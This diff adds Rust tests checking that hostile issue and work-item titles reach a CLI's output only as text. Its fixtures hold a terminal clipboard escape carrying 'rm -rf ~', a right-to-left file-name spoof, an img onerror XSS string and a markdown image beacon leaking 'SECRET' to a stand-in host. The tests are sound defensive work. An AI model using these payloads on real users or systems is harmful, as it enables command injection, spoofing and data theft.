@@ -134,3 +134,49 @@ fn a_tag_an_author_and_a_commit_subject_reach_the_person_as_text() {
         "{shown}"
     );
 }
+
+#[test]
+fn a_committed_work_item_with_a_hostile_title_is_written_as_text() {
+    let repo = TempRepo::new();
+    repo.write("docs/intents/7-export.md", HOSTILE_ITEM);
+    repo.git(&["add", "-A"]);
+    repo.git(&["commit", "-qm", "work item 7"]);
+    let out = Interview::intent(&repo, "7")
+        .runner("honest.sh")
+        .answers(SKIP_ALL)
+        .yes()
+        .out("-")
+        .run()
+        .exits(0);
+    assert_text_only("standard output", &out.stdout);
+    assert_text_only("standard error", &out.stderr);
+    assert!(out.stdout.contains("<U+202E>fdp.exe"), "{}", out.stdout);
+}
+
+#[test]
+fn a_github_issue_with_a_hostile_title_and_body_is_written_as_text() {
+    let repo = TempRepo::new();
+    let bin = repo.scratch("bin");
+    std::fs::create_dir_all(&bin).unwrap();
+    let issue = serde_json::json!({
+        "title": "Export \u{1b}]52;c;cm0gLXJmIH4K\u{7}to CSV\u{1b}[2J\u{0} \u{202E}fdp.exe",
+        "body": "<img src=x onerror=alert(1)> ![](https://example.invalid/?leak=SECRET)",
+    });
+    let gh = bin.join("gh");
+    std::fs::write(&gh, format!("#!/bin/sh\ncat <<'JSON'\n{issue}\nJSON\n")).unwrap();
+    std::fs::set_permissions(&gh, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+    let out = Interview::intent(&repo, "7")
+        .runner("honest.sh")
+        .answers(SKIP_ALL)
+        .yes()
+        .out("-")
+        .env("PATH", path)
+        .run()
+        .exits(0);
+    assert_text_only("standard output", &out.stdout);
+    assert_text_only("standard error", &out.stderr);
+    assert_eq!(live(&out.stdout), Vec::<String>::new(), "{}", out.stdout);
+    assert!(out.stdout.contains("github issue 7"), "{}", out.stdout);
+    assert!(out.stdout.contains("<U+202E>fdp.exe"), "{}", out.stdout);
+}
